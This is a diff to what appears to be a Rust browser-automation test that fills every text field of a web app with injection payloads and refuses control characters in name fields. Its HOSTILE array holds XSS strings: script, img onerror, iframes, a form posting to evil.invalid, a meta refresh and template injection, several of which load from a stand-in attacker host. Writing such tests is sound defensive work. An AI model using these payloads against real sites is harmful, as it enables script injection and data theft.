@@ -8,18 +8,38 @@ use crate::chromium::Tab;
 use crate::people::Office;
 
 /// Each would tell of itself by calling `ran`, or by a request that leaves.
-pub const HOSTILE: [&str; 6] = [
+pub const HOSTILE: [&str; 7] = [
     "<script>ran('script')</script><img src=//evil.invalid/a onerror=ran('img')><svg onload=ran('svg')>",
     "\" autofocus onfocus=ran('focus') x=\"' onmouseover=ran('over') '",
     "</textarea></title><script src=http://evil.invalid/b.js></script><iframe src=http://evil.invalid/c></iframe>",
     "<style>@import url(http://evil.invalid/d)</style><link rel=stylesheet href=//evil.invalid/e><base href=//evil.invalid/>",
     "javascript:ran('url') data:text/html,<script>ran('data')</script> {{constructor.constructor('ran(1)')()}}",
     "<form action=//evil.invalid/f><input name=token></form><meta http-equiv=refresh content='0;url=http://evil.invalid/g'>&lt;b&gt;",
+    concat!("<b onclick=ran('turned')>", "turned \u{202E}round \u{2067}a\u{1B}[2Jterminal"),
 ];
 
-/// Each is refused where people type it, with the words kept in the field.
-pub const REFUSED: [&str; 4] =
-    ["turned \u{202E}round", "isolated \u{2067}words", "a\u{1B}[2Jterminal", "n\u{0}ul"];
+/// What of the last is not for names.
+const TURNED: &str = "turned \u{202E}round \u{2067}a\u{1B}[2Jterminal";
+
+/// Each is refused in a name, a position or a reference, with the words kept
+/// in the field.
+pub const REFUSED: [&str; 5] =
+    ["turned \u{202E}round", "isolated \u{2067}words", "a\u{1B}[2Jterminal", "n\u{0}ul", "un\u{2062}seen"];
+
+/// The fields for names, positions and references.
+const NAMES: [&str; 11] = [
+    "first-name",
+    "first-position",
+    "second-name",
+    "second-position",
+    "subject",
+    "computer",
+    "by",
+    "contact",
+    "reference",
+    "to",
+    "role",
+];
 
 #[derive(Default)]
 pub struct Watch {
@@ -83,14 +103,16 @@ pub fn send(tab: &Tab) {
     tab.leave(|tab| drop(tab.eval("document.querySelector('main form').requestSubmit(), 0")));
 }
 
-/// Every text field of the page but those that are answered by `also`: refused
-/// words first, then hostile ones that go through.
+/// Every text field of the page but those that are answered by `also`: words
+/// that are refused in names first, then hostile ones that go through.
 pub fn attack(office: &Office, watch: &mut Watch, also: &[(&str, &str)], turn: usize) {
     let (tab, ours) = (&office.tab, office.url("/"));
     let page = tab.path();
     let mut fields = every_text_field(tab);
     fields.retain(|name| also.iter().all(|(known, _)| known != name));
-    for name in &fields {
+    // Whom people told is said in words of any kind.
+    let in_words = |name: &str| !NAMES.contains(&name) || (name == "to" && page.contains("/refer"));
+    for name in fields.iter().filter(|name| !in_words(name)) {
         for refused in REFUSED {
             for (other, value) in also {
                 tab.fill(other, value);
@@ -108,7 +130,8 @@ pub fn attack(office: &Office, watch: &mut Watch, also: &[(&str, &str)], turn: u
         }
     }
     for (place, name) in fields.iter().enumerate() {
-        set(tab, name, HOSTILE[(turn + place) % HOSTILE.len()]);
+        let words = HOSTILE[(turn + place) % HOSTILE.len()];
+        set(tab, name, if in_words(name) { words } else { words.trim_end_matches(TURNED) });
     }
     for (other, value) in also {
         tab.fill(other, value);
